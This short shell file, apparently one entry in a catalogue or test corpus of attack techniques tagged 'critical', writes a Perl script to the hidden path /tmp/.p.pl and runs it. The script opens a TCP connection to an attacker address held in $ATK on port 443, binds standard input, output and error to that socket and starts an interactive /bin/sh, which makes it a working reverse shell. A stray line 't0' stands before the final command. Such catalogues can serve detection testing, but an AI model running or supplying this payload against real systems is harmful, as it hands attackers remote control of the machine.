# SPDX-License-Identifier: MIT
# technique: perl script: socket on STDIN/STDOUT, exec a shell
# level: critical
# quick: no
cat >/tmp/.p.pl <<X
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in(443, inet_aton("$ATK"))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");
X
t0
perl /tmp/.p.pl
